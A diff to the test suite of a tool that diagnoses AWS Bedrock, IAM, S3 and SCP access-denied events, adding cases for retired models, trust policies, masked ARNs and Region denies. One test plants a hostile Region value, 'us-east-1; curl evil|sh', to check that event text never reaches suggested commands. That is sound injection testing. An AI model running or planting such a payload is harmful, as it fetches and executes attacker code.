@@ -41,6 +41,12 @@ const withoutAgreement = { ...good, agreementAvailability: { status: 'NOT_AVAILA
 const uses = (availability: ModelAvailability): Pick<AgentRole, 'models'> => ({
   models: { known: [modelUse([foundationModel({ availability: { known: availability } })])] },
 });
+const retired = {
+  details: {
+    known: { modelId: MODEL_ID, modelLifecycle: { status: 'LEGACY', endOfLifeTime: '2026-11-01T00:00:00Z' } },
+  },
+} as const;
+const PROFILE = `arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/us.anthropic.claude-haiku-4-5-20251001-v1:0`;
 const formMissing = { useCaseFormSubmitted: { known: false } } as const;
 const unreadPolicies = { identityPolicies: { missing: ['iam was not read'] }, readablePolicies: [] } as const;
 const inline = (statement: unknown) => identity(policy('inline policy Model', statement));
@@ -190,10 +196,120 @@ const rows: readonly Row[] = [
     ],
   ],
   [
+    'a retired model without a form: no form brings it back',
+    denied(),
+    agentRole({
+      ...identity(administrator),
+      ...formMissing,
+      models: { known: [modelUse([foundationModel({ ...retired, availability: { known: withoutAgreement } })])] },
+    }),
+    ['MODEL_RETIRED_OR_LEGACY proven', 'USE_CASE_FORM_NOT_SUBMITTED proven'],
+  ],
+  [
+    'one of two models is retired: it may have been the other one',
+    denied({ eventName: 'InvokeAgent', requestParameters: null }),
+    agentRole({
+      models: { known: [modelUse([foundationModel(), foundationModel({ ...retired, modelId: 'anthropic.old' })])] },
+    }),
+    ['MODEL_RETIRED_OR_LEGACY likely'],
+  ],
+  [
+    'a service that cannot assume a role has no policies of its own',
+    denied({
+      eventSource: 'sts.amazonaws.com',
+      eventName: 'AssumeRole',
+      userIdentity: { type: 'AWSService' },
+      errorMessage: `User: bedrock.amazonaws.com is not authorized to perform: sts:AssumeRole on resource: ${ROLE}`,
+    }),
+    undefined,
+    ['TRUST_POLICY likely'],
+  ],
+  [
+    'somebody who cannot assume a role: either policy',
+    iam('', 'sts:AssumeRole', ROLE),
+    undefined,
+    ['IDENTITY_POLICY_MISSING_ACTION possible', 'RESOURCE_ARN_MISMATCH possible', 'TRUST_POLICY possible'],
+  ],
+  [
+    'a call of Amazon S3 is no call of a model: the models of the workload are not asked about',
+    denied({ eventSource: 's3.amazonaws.com', eventName: 'HeadObject', errorMessage: 'Access Denied' }),
+    agentRole(organization(allow('s3:*', '*'))),
+    [],
+  ],
+  [
+    'a call of Amazon S3 by whoever it was',
+    denied({
+      eventSource: 's3.amazonaws.com',
+      eventName: 'GetObject',
+      errorMessage: 'Access Denied',
+      requestParameters: null,
+    }),
+    undefined,
+    ['S3_ACCESS possible'],
+  ],
+  [
+    'the token of a gateway is not a matter of IAM',
+    denied({
+      eventSource: 'bedrock-agentcore.amazonaws.com',
+      eventName: 'InvokeGateway',
+      errorMessage: 'Invalid Bearer token',
+    }),
+    undefined,
+    ['WRONG_CREDENTIALS_OR_REGION likely'],
+  ],
+  [
+    'a masked account is no other account',
+    iam(implicit, 'bedrock:InvokeModel', PROFILE.replace(ACCOUNT, 'XXXXXXXXXXXX')),
+    agentRole(),
+    ['IAM_PROPAGATION likely'],
+  ],
+  [
+    'an ARN with an ellipsis is no other ARN',
+    iam(implicit, 'bedrock:InvokeModel', 'arn:aws:bedrock:us-east-1:...:inference-profile/us.x'),
+    agentRole(),
+    ['IAM_PROPAGATION likely'],
+  ],
+  [
+    'the session of an agent that acts with another role proves nothing of the needs of this one',
+    denied({
+      userIdentity: {
+        arn: SESSION.replace('AGENT00001', 'AGENT00009'),
+        sessionContext: { sessionIssuer: { arn: ROLE } },
+      },
+      requestParameters: null,
+    }),
+    agentRole(inline(allow('s3:GetObject', '*'))),
+    ['IDENTITY_POLICY_MISSING_ACTION possible'],
+  ],
+  [
+    'AWS names the identity-based policies, but no resource that they could be asked about',
+    says(
+      `User: ${SESSION} is not authorized to perform: s3:GetObject because no identity-based policy allows the s3:GetObject action`,
+    ),
+    agentRole(),
+    ['S3_ACCESS likely'],
+  ],
+  [
+    'Amazon S3 puts its ARNs between quotation marks',
+    iam(
+      'because no identity-based policy allows the s3:GetObject action',
+      's3:GetObject',
+      '"arn:aws:s3:::docs/a b.pdf"',
+    ),
+    agentRole(),
+    ['S3_ACCESS proven'],
+  ],
+  [
     'a model that the Region does not have',
     denied(),
     agentRole(uses({ ...good, regionAvailability: 'NOT_AVAILABLE' })),
     ['MODEL_NOT_IN_REGION proven'],
+  ],
+  [
+    'a model that the Region of the evidence does not have, called in another Region',
+    denied({ awsRegion: 'eu-west-1' }),
+    agentRole({ ...identity(administrator), ...uses({ ...good, regionAvailability: 'NOT_AVAILABLE' }) }),
+    ['MODEL_NOT_IN_REGION possible'],
   ],
   [
     'an agreement under way',
@@ -503,4 +619,63 @@ test('gaps that could hide the role are said when the role is unknown', () => {
     `what the role ${ROLE} may do: it is not among the agent roles that were read`,
     'agents were not read',
   ]);
+});
+
+test.each([
+  ['the one that AWS names', `policy/Other`, `arn:aws:iam::${ACCOUNT}:policy/Other`],
+  ['its statement, where it is the one that was read', `policy/Stop`, 'managed policy Stop, statement 0'],
+])('the policy of a Deny is %s', (_, named, where) => {
+  const stop = policy('managed policy Stop', { Effect: 'Deny', Action: 'bedrock:*', Resource: '*' });
+  const text = `with an explicit deny in an identity-based policy: arn:aws:iam::${ACCOUNT}:${named}`;
+  const [cause] = diagnose(iam(text), agentRole(identity(administrator, stop))).causes;
+  expect(cause?.summary).toBe(`An identity-based policy of the caller denies bedrock:InvokeModel: ${where}.`);
+});
+
+test('a Region deny that stops a global profile is told as one, though the message names no resource', () => {
+  const resource = MODEL.replace('us-east-1', '');
+  const role = agentRole({
+    ...inline(allow('bedrock:InvokeModel', '*')),
+    ...organization([
+      allow('*', '*'),
+      {
+        Effect: 'Deny',
+        Action: '*',
+        Resource: '*',
+        Condition: { StringNotEquals: { 'aws:RequestedRegion': 'us-east-1' } },
+      },
+    ]),
+    knownRequests: [request(), request({ resource })],
+  });
+  const [cause] = diagnose(denied({ requestParameters: null }), role).causes;
+  expect(cause?.code).toBe('SCP_DENY');
+  expect(cause?.change.kind === 'steps' && cause.change.steps[0]).toContain('`unspecified`');
+});
+
+test('nothing of an event becomes part of a command as it is', () => {
+  const hostile = denied({
+    errorMessage: 'The provided model identifier is invalid. Access denied when calling Bedrock',
+    awsRegion: 'us-east-1; curl evil|sh',
+    requestParameters: null,
+  });
+  const commands = diagnose(hostile, undefined).causes.flatMap(({ change }) =>
+    change.kind === 'steps' ? change.steps.flatMap((step) => step.match(/`[^`]*`/g) ?? []) : [],
+  );
+  expect(commands).toContain('`aws bedrock list-foundation-models --region <region>`');
+  expect(commands.join()).not.toContain('curl');
+});
+
+test('a workload that was called, and whose roles are several, is told as that', () => {
+  const called = denied({ eventName: 'InvokeAgent', requestParameters: { agentId: 'AGENT00001' }, userIdentity: {} });
+  expect(diagnose(called, undefined).unanswered).toContain(
+    'which role agent AGENT00001 acted with: none of those that were read, or more than one',
+  );
+});
+
+test('the Region that may not have the model is the one of the call', () => {
+  const invalid = denied({
+    awsRegion: 'eu-west-1',
+    errorMessage: 'The provided model identifier is invalid.',
+    errorCode: 'AccessDenied',
+  });
+  expect(diagnose(invalid, agentRole()).causes[0]?.summary).toBe('The model may not be offered in eu-west-1.');
 });
